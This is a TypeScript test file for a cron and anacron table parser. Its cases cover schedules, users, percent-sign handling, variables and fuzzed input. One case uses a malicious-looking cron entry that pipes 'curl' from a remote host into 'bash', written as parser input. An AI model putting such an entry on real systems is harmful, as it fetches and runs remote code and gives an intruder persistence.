import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { anacronJobs, cronJobs, cronLine } from './cron-table.ts';

describe('cronLine', () => {
  test.each<readonly [string, string, 'yes' | 'no' | 'maybe', object | undefined]>([
    [
      'system table with a user',
      '* * * * * root /opt/x -a',
      'maybe',
      { schedule: '* * * * *', user: 'root', command: '/opt/x -a' },
    ],
    [
      'system table without one, as docker123321 wrote it',
      '* * * * * curl -s http://192.0.2.1:8220/logo3.jpg | bash -s',
      'maybe',
      { schedule: '* * * * *', command: 'curl -s http://192.0.2.1:8220/logo3.jpg | bash -s' },
    ],
    ['an absolute program', '5 4 * * 1-5 /opt/x', 'maybe', { schedule: '5 4 * * 1-5', command: '/opt/x' }],
    [
      'a user nobody knows',
      '@reboot deploy /opt/x',
      'maybe',
      { schedule: '@reboot', user: 'deploy', command: '/opt/x' },
    ],
    ['user tables have no users', '0 0 * * sun root x', 'no', { schedule: '0 0 * * sun', command: 'root x' }],
    [
      'steps and lists',
      '*/5 0-6,22-23 1 jan,feb mon echo a',
      'no',
      { schedule: '*/5 0-6,22-23 1 jan,feb mon', command: 'echo a' },
    ],
    ['tabs', '*\t*\t*\t*\t*\troot\tid', 'maybe', { schedule: '* * * * *', user: 'root', command: 'id' }],
    ['too short', '* * * * *', 'maybe', undefined],
    ['prose', 'this is not a cron line at all', 'maybe', undefined],
    ['an unknown nickname', '@never id', 'no', undefined],
  ])('%s', (_name, line, users, expected) => {
    expect(cronLine(line, users)).toEqual(expected);
  });

  test('percent signs', () => {
    expect(cronLine('* * * * * date +\\%F', 'no')?.command).toBe('date +%F');
    expect(cronLine('* * * * * sh%echo a%echo b', 'no')?.command).toBe(
      "sh <<'END_OF_CRON_INPUT'\necho a\necho b\nEND_OF_CRON_INPUT",
    );
  });
});

test('variables hold from their line on', () => {
  const jobs = cronJobs('# a\n* * * * * a\nSHELL=/bin/bash\nX = "y z"\n\n* * * * * b\n', 'no');
  expect(jobs.map((job) => [job.line, job.command, Object.fromEntries(job.env)])).toEqual([
    [2, 'a', {}],
    [6, 'b', { SHELL: '/bin/bash', X: 'y z' }],
  ]);
});

test('anacron', () => {
  expect(
    anacronJobs('SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n@monthly 15 m x').map((job) => job.command),
  ).toEqual(['run-parts /etc/cron.daily', 'x']);
});

test('any text is read, bounded', () => {
  const piece = fc.constantFrom('*', '* ', ' * * * *', '\n', '@reboot', 'root', '%', '\\%', '=', 'X=', '"', '#', '/x');
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 60 }), (parts) => {
      const text = parts.join('');
      for (const users of ['yes', 'no', 'maybe'] as const) {
        for (const job of cronJobs(text, users)) expect(job.command).not.toBe('');
      }
      anacronJobs(text);
    }),
  );
  expect(cronJobs('* * * * * x\n'.repeat(10_000), 'no').length).toBe(2_000);
});
